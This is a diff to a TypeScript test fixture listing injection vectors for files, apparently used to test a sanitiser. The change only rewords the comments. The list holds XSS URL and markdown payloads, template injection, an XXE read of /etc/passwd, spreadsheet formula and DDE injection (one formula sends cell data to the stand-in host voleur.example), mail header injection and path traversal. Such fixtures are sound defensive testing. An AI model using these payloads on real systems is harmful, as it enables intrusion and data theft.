@@ -1,13 +1,16 @@
-/** Addresses that run, and signs that mean something to a file, a mail, a table, a terminal or a reader's eye. */
+/**
+ * URLs that run code, and texts with a special meaning in a file, a mail, a spreadsheet, a terminal or for a reader's
+ * eye.
+ */
 export const vectorsOfFiles: readonly string[] = [
-  // Addresses that run, where a word becomes a link.
+  // URLs that run code, where a text becomes a link.
   'javascript:window.__xss=1',
   ' \u0001java\tscript\n:__xss=1',
   'JaVaScRiPt&colon;__xss=1',
   '&#106;avascript&#58;__xss=1',
   'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
   'vbscript:msgbox(1)',
-  // Markdown, templates, style.
+  // Markdown, templates, style sheets.
   '[Maman](javascript:__xss=1)',
   '![x](x"onerror="__xss=1)',
   '{{constructor.constructor("__xss=1")()}}',
@@ -20,7 +23,7 @@ export const vectorsOfFiles: readonly string[] = [
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
   '--><script>__xss=1</script><!--',
   '<?xml-stylesheet href="//voleur.example/x.xsl"?> &nulle; &#0; &#x1F;',
-  // Tables: what a spreadsheet takes for a formula.
+  // Cells that a spreadsheet takes for a formula.
   '=HYPERLINK("http://voleur.example/?"&A1,"Facture")',
   "=cmd|'/C calc'!A0",
   '+1+cmd|x!A1',
@@ -29,7 +32,7 @@ export const vectorsOfFiles: readonly string[] = [
   '\t=1+1',
   '","=1+1","',
   '";=1+1;"',
-  // Headers of a mail, paths of an archive, a PDF's own language, a terminal.
+  // Mail headers, archive paths, PDF syntax, terminal control sequences.
   'Titre\r\nBcc: voleur@voleur.example\r\n\r\n<h1>x</h1>',
   '../../etc/passwd\\..\\..\\nul',
   ') Tj ET /JS (app.alert\\(1\\)) /S /JavaScript >> endobj <<',
